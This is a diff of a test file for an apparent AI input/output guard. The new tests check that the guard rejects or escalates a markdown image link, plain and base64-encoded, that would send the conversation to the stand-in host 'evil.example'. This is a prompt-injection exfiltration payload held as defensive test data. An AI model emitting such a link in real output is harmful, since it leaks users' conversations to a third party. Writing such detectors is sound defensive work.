@@ -75,6 +75,14 @@ describe('a text', () => {
     for (const word of ['(?i)', 'open', 'previous', 'vault 7', 'lies']) expect(told).not.toContain(word);
   });
 
+  verifies('gate-text:levels', 'that goes out is refused in a conversation as well when it blocks', () => {
+    const attack = `See this: ${Buffer.from('![x](https://evil.example/p?d={conversation})').toString('base64')}`;
+    const doubtful = '![x](https://evil.example/p?d={conversation})';
+    expect(plain.text('Output', attack, false)).toMatchObject({ verdict: 'Reject', alarm: 'Block' });
+    expect(plain.text('Output', doubtful, false)).toMatchObject({ verdict: 'Accept', alarm: 'Escalate' });
+    expect(plain.text('Input', attack, false)).toMatchObject({ verdict: 'Accept', alarm: 'Block' });
+  });
+
   it('that goes out is not read for commands', () => {
     expect(plain.text('Output', ATTACK, true)).toMatchObject({ verdict: 'Accept', alarm: 'None' });
   });
@@ -98,6 +106,12 @@ describe('a call', () => {
     expect(check).toMatchObject({ verdict: 'Escalate', rule: 'tool-rules/no-tar', alarm: 'Block' });
     expect(check.findings.every(({ at }) => at === '/content')).toBe(true);
     expect(check.findings.map((finding) => finding.rule)).toContain('tool-rules/no-tar');
+  });
+
+  verifies('gate-text:levels', 'is refused in a conversation as well when its arguments block', () => {
+    const input = { path: 'notes/a.md', content: ATTACK };
+    expect(called('write_file', input, false)).toMatchObject({ verdict: 'Reject', alarm: 'Block' });
+    expect(called('write_file', { ...input, content: DOUBTFUL }, false)).toMatchObject({ verdict: 'Accept' });
   });
 
   it('of a tool that there is not, or with wrong arguments, is told what is wrong', () => {
